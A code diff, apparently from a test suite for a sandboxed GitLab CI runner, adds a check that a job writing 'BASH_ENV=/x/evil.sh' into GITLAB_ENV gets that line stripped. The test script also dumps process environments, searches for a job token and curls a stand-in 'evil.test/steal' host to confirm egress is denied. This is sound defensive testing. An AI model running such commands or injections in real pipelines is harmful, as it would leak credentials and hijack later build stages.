@@ -439,6 +439,7 @@ cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > "$CI_PROJECT_DIR/probe-proc.txt"
 {{ cat {response} || echo response-unreadable; ls {tmp} || echo tmp-unreadable; ls {state} || echo state-unreadable; }} > "$CI_PROJECT_DIR/probe-files.txt" 2>&1
 grep -rs -l -F TESTjobTOKEN01 "$CI_BUILDS_DIR" /tmp "$HOME" > "$CI_PROJECT_DIR/probe-grep.txt" 2>/dev/null || true
 curl -s -m 10 http://registry.test/
+mkdir -p "$CI_PROJECT_DIR.tmp" && printf 'BASH_ENV=/x/evil.sh\nGOOD_VAR=1\n' >> "$CI_PROJECT_DIR.tmp/gitlab_runner_env"
 curl -sf -m 10 http://evil.test/steal && echo EVIL-REACHED || echo evil-denied
 curl -sf -m 10 http://gitlab.test/api/v4/jobs/1/artifacts && echo GITLAB-REACHED || echo gitlab-denied
 "#
@@ -467,7 +468,16 @@ curl -sf -m 10 http://gitlab.test/api/v4/jobs/1/artifacts && echo GITLAB-REACHED
             "denial not in the job log: {}",
             show(&o)
         );
+        // Written to GITLAB_ENV for later stages (the token's among them): sanitised.
+        assert!(
+            o.stderr().contains("removed BASH_ENV from GITLAB_ENV"),
+            "{}",
+            show(&o)
+        );
         let pd = job.project_dir();
+        let genv =
+            std::fs::read_to_string(pd.with_extension("tmp").join("gitlab_runner_env")).unwrap();
+        assert_eq!(genv, "GOOD_VAR=1\n");
         for probe in [
             "probe-env.txt",
             "probe-script.txt",
